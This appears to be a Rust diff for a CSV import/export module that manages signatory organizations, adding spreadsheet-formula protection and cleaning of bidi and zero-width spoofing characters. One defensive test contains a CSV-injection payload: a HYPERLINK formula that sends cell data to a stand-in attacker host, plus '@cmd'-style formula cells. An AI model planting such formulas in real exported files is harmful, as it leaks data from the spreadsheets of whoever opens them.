@@ -5,8 +5,10 @@
 
 mod columns;
 mod export;
+mod formula;
 mod merge;
 mod read;
+mod row;
 
 use std::collections::HashMap;
 use std::fmt;
@@ -16,12 +18,14 @@ use jiff::civil::Date;
 
 pub use columns::{Field, field_of, guess_columns};
 pub use export::export_csv;
+pub use formula::{protect, unprotect};
 pub use merge::{MergeNote, organization_key};
 pub use read::{Decoded, decode, sniff_delimiter};
 
-use crate::model::{Contact, SignOnStatus, Signatory};
-use merge::{add_contact, emails, merge, split_acronym};
-use read::{Rows, parse_bool, parse_date};
+use crate::model::Signatory;
+use merge::{emails, merge};
+use read::Rows;
+use row::{Row, Skip, read_row};
 
 /// Rows accepted in one import, so that a wrong file cannot make memodraft allocate
 /// without bound.
@@ -77,7 +81,8 @@ pub struct RowReport {
     pub line: u64,
     pub organization: String,
     pub outcome: Outcome,
-    /// For a merged row: what it changed in the entry.
+    /// What cleaning removed from the row, and for a merged row what it changed in the
+    /// entry.
     pub notes: Vec<MergeNote>,
 }
 
@@ -145,8 +150,10 @@ pub fn read_file(path: &Path) -> Result<Vec<u8>, CsvError> {
 /// Merges the rows of a CSV file into `list`: a row whose email, or whose organization
 /// key ([`organization_key`]), matches an entry already there (or an earlier row) is
 /// merged into it, keeping the better-spelled name and filling empty fields; other rows
-/// are added as confirmed. Rows without an organization are skipped with the reason. On
-/// error `list` is unchanged.
+/// are added, as received (not printed) unless the file says their status. Each cell is
+/// cleaned as untrusted text ([`crate::model::untrusted::clean`]); rows without an
+/// organization, with an overlong one or with an email that is not an address are
+/// skipped with the reason. On error `list` is unchanged.
 pub fn import_bytes(
     list: &mut Vec<Signatory>,
     bytes: &[u8],
@@ -195,12 +202,42 @@ pub fn import_mapped_on(
     mapping: Option<&[Option<Field>]>,
     today: Date,
 ) -> Result<ImportReport, CsvError> {
+    let options = ImportOptions {
+        mapping,
+        confirm: false,
+        today,
+    };
+    import_with(list, bytes, path, &options)
+}
+
+/// How [`import_with`] reads a file.
+#[derive(Clone, Copy, Debug)]
+pub struct ImportOptions<'a> {
+    /// The columns given by hand (see [`import_mapped`]); `None`: read from the headers.
+    pub mapping: Option<&'a [Option<Field>]>,
+    /// The drafting team has checked the sheet: rows that do not say their status are
+    /// confirmed instead of received, and so are the received entries they match.
+    pub confirm: bool,
+    /// Dates a status change that the row itself does not date.
+    pub today: Date,
+}
+
+/// [`import_bytes`] with every choice given.
+pub fn import_with(
+    list: &mut Vec<Signatory>,
+    bytes: &[u8],
+    path: &Path,
+    options: &ImportOptions<'_>,
+) -> Result<ImportReport, CsvError> {
+    let mapping = options.mapping;
     let decoded = decode(bytes);
     let delimiter = sniff_delimiter(&decoded.text);
+    // Cells are trimmed by `read_row`, after the formula prefix is taken off: trimmed
+    // first, "'\t" (a tab protected by export) would lose its tab and keep the prefix.
     let mut reader = csv::ReaderBuilder::new()
         .delimiter(delimiter)
         .flexible(true)
-        .trim(csv::Trim::All)
+        .trim(csv::Trim::Headers)
         .from_reader(decoded.text.as_bytes());
     let row_error = |line: u64, e: &csv::Error| CsvError::Row {
         path: path.to_owned(),
@@ -251,76 +288,25 @@ pub fn import_mapped_on(
             });
         }
         let (line, row_number) = rows_of.next(start, reader.position().byte());
-        if record.iter().all(str::is_empty) {
+        if record.iter().all(|cell| cell.trim().is_empty()) {
             continue;
         }
-        let mut row = Signatory {
-            status: SignOnStatus::Confirmed,
-            ..Signatory::default()
+        let (row, cleaned) = match read_row(&record, &columns, options.confirm) {
+            Ok(Row { signatory, notes }) => (signatory, notes),
+            Err(Skip {
+                organization,
+                reason,
+            }) => {
+                rows.push(RowReport {
+                    row: row_number,
+                    line,
+                    organization,
+                    outcome: Outcome::Skipped(reason),
+                    notes: Vec::new(),
+                });
+                continue;
+            }
         };
-        let mut timestamp = None;
-        // The n-th contact column pairs with the n-th email column ("Contact 2", "Email 2").
-        let (mut names, mut addresses) = (Vec::new(), Vec::new());
-        for (value, field) in record.iter().zip(&columns) {
-            // Line breaks and runs of spaces inside a cell are typing accidents.
-            let value = value.split_whitespace().collect::<Vec<_>>().join(" ");
-            match field {
-                Some(Field::Organization) => row.organization = value,
-                Some(Field::ShortName) => row.short_name = value,
-                Some(Field::City) => row.city = value,
-                Some(Field::Country) => row.country = value,
-                Some(Field::Contact) => names.push(value),
-                Some(Field::Email) => addresses.push(value),
-                Some(Field::Status) => {
-                    // An answer memodraft does not understand must not print: invited.
-                    row.status = SignOnStatus::parse(&value).unwrap_or(if value.is_empty() {
-                        SignOnStatus::Confirmed
-                    } else {
-                        SignOnStatus::Invited
-                    });
-                }
-                Some(Field::Signed) => row.signed = parse_date(&value),
-                Some(Field::Lead) => row.lead = parse_bool(&value),
-                Some(Field::Invited) => row.invited = parse_date(&value),
-                Some(Field::Withdrawn) => row.withdrawn = parse_date(&value),
-                Some(Field::Timestamp) => timestamp = parse_date(&value),
-                None => {}
-            }
-        }
-        let (mut names, mut addresses) = (names.into_iter(), addresses.into_iter());
-        loop {
-            let contact = match (names.next(), addresses.next()) {
-                (None, None) => break,
-                (name, email) => Contact {
-                    name: name.unwrap_or_default(),
-                    email: email.unwrap_or_default(),
-                },
-            };
-            if !contact.is_empty() {
-                // A form that asks for an email twice names one person once.
-                add_contact(&mut row.contacts, contact);
-            }
-        }
-        if row.signed.is_none() && row.status == SignOnStatus::Confirmed {
-            row.signed = timestamp;
-        }
-        if row.short_name.is_empty()
-            && let Some((name, acronym)) = split_acronym(&row.organization)
-        {
-            let (name, acronym) = (name.to_owned(), acronym.to_owned());
-            row.short_name = acronym;
-            row.organization = name;
-        }
-        if row.organization.is_empty() {
-            rows.push(RowReport {
-                row: row_number,
-                line,
-                organization: String::new(),
-                outcome: Outcome::Skipped("no organization name".to_owned()),
-                notes: Vec::new(),
-            });
-            continue;
-        }
         let key = organization_key(&row.organization);
         let row_emails = emails(&row);
         let by_name = by_key.get(&key).copied();
@@ -330,19 +316,19 @@ pub fn import_mapped_on(
                 .find_map(|e| by_email.get(e).map(|&i| (i, Some(e.clone()))))
         });
         let organization = row.organization.clone();
-        let (outcome, notes) = if let Some((i, matched_email)) = found
+        let mut notes = cleaned;
+        let outcome = if let Some((i, matched_email)) = found
             && let Some(existing) = merged.get_mut(i)
         {
-            let mut notes = Vec::new();
             if let Some(email) = matched_email {
                 notes.push(MergeNote::SameEmail(email));
             }
-            notes.extend(merge(existing, row, by_name.is_some(), today));
+            notes.extend(merge(existing, row, by_name.is_some(), options.today));
             by_key.entry(key).or_insert(i);
             for email in row_emails {
                 by_email.entry(email).or_insert(i);
             }
-            (Outcome::Merged(existing.organization.clone()), notes)
+            Outcome::Merged(existing.organization.clone())
         } else {
             let i = merged.len();
             merged.push(row);
@@ -350,7 +336,7 @@ pub fn import_mapped_on(
             for email in row_emails {
                 by_email.entry(email).or_insert(i);
             }
-            (Outcome::Added, Vec::new())
+            Outcome::Added
         };
         rows.push(RowReport {
             row: row_number,
@@ -376,10 +362,154 @@ pub fn import_mapped_on(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::{Contact, SignOnStatus};
 
     fn import(list: &mut Vec<Signatory>, csv: &str) -> ImportReport {
         let today = Date::new(2026, 12, 1).unwrap();
         import_mapped_on(list, csv.as_bytes(), Path::new("t.csv"), None, today).unwrap()
+    }
+
+    fn lines(report: &ImportReport) -> Vec<String> {
+        report.rows.iter().map(ToString::to_string).collect()
+    }
+
+    #[test]
+    fn a_public_forms_rows_are_received_until_a_checked_sheet_confirms_them() {
+        let form = "Timestamp,Organization,Email\n\
+                    11/20/2026 9:14:02,Fundar,info@fundar.example.org\n\
+                    11/21/2026 8:00:00,Serapaz,\n";
+        let mut list = vec![Signatory {
+            organization: "Serapaz".into(),
+            status: SignOnStatus::Invited,
+            ..Signatory::default()
+        }];
+        import(&mut list, form);
+        let statuses: Vec<_> = list.iter().map(|s| (s.status, s.signed)).collect();
+        let day = |d| Date::new(2026, 11, d).ok();
+        assert_eq!(
+            statuses,
+            [
+                (SignOnStatus::Received, day(21)),
+                (SignOnStatus::Received, day(20)),
+            ],
+            "an invited organization that sends the form awaits review too"
+        );
+
+        let today = Date::new(2026, 12, 1).unwrap();
+        let options = ImportOptions {
+            mapping: None,
+            confirm: true,
+            today,
+        };
+        let report = import_with(&mut list, form.as_bytes(), Path::new("t.csv"), &options).unwrap();
+        assert_eq!(
+            lines(&report),
+            [
+                "row 2: Fundar: merged into \"Fundar\": now Confirmed (was Received)",
+                "row 3: Serapaz: merged into \"Serapaz\": now Confirmed (was Received)",
+            ]
+        );
+        assert!(list.iter().all(|s| s.status == SignOnStatus::Confirmed));
+        assert_eq!(
+            list.get(1).and_then(|s| s.signed),
+            day(20),
+            "the day it was sent"
+        );
+
+        // A sheet that says its statuses keeps them; a form's "yes" is not a confirmation.
+        let mut list = Vec::new();
+        import(
+            &mut list,
+            "Organization,Status\nA,Confirmed\nB,Declined\nC,Yes\nD,\n",
+        );
+        let statuses: Vec<_> = list.iter().map(|s| s.status).collect();
+        let (confirmed, declined, received) = (
+            SignOnStatus::Confirmed,
+            SignOnStatus::Declined,
+            SignOnStatus::Received,
+        );
+        assert_eq!(statuses, [confirmed, declined, received, received]);
+    }
+
+    #[test]
+    fn spoofing_characters_are_removed_with_a_line_and_bad_rows_are_skipped_with_why() {
+        let long = "Colectivo ".repeat(31);
+        let csv = format!(
+            "Organization,Contact,Email\n\
+             Centro \u{202E}Prodh,Ana Ru\u{200D}iz,ana@prodh.example.org\n\
+             {long},,\n\
+             Nube,Pedro,pedro at nube\n\
+             Serapaz,Luis,n/a\n"
+        );
+        let mut list = Vec::new();
+        let report = import(&mut list, &csv);
+        assert_eq!(
+            lines(&report),
+            [
+                "row 2: Centro Prodh: added: removed from the organization: U+202E (bidi control); \
+                 removed from the contact: U+200D (zero-width)",
+                "row 3: Colectivo Colectivo Colectivo Colectivo Colectivo Colectivo \u{2026}: \
+                 skipped (the organization name is 309 characters long, more than the 300 a \
+                 name can be; shorten it in the sheet)",
+                "row 4: Nube: skipped (\"pedro at nube\" is not an email address; correct it in \
+                 the sheet)",
+                "row 5: Serapaz: added",
+            ]
+        );
+        let names: Vec<_> = list.iter().map(|s| s.organization.as_str()).collect();
+        assert_eq!(names, ["Centro Prodh", "Serapaz"]);
+        assert_eq!(
+            list.first()
+                .and_then(|s| s.contacts.first())
+                .map(|c| c.name.as_str()),
+            Some("Ana Ruiz")
+        );
+        assert_eq!(
+            list.get(1).map(|s| s.contacts.clone()),
+            Some(vec![Contact {
+                name: "Luis".into(),
+                email: String::new()
+            }]),
+            "\"n/a\" says there is no email"
+        );
+    }
+
+    #[test]
+    fn formulas_are_exported_as_text_and_imported_back_as_they_were() {
+        let names = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "+SUM(1+1)",
+            "@cmd",
+            "-1+2",
+        ];
+        let list: Vec<Signatory> = names
+            .iter()
+            .map(|name| Signatory {
+                organization: (*name).to_owned(),
+                city: "=1+1".into(),
+                status: SignOnStatus::Confirmed,
+                signed: Date::new(2026, 11, 2).ok(),
+                contacts: vec![Contact {
+                    name: "@Ana".into(),
+                    email: String::new(),
+                }],
+                ..Signatory::default()
+            })
+            .collect();
+        let csv = export_csv(&list);
+        // What a spreadsheet reads: no cell starts as a formula.
+        let mut reader = csv::Reader::from_reader(csv.get(3..).unwrap_or_default());
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+            }
+        }
+        let mut back = Vec::new();
+        import(&mut back, std::str::from_utf8(&csv).unwrap());
+        assert_eq!(back, list);
     }
 
     #[test]
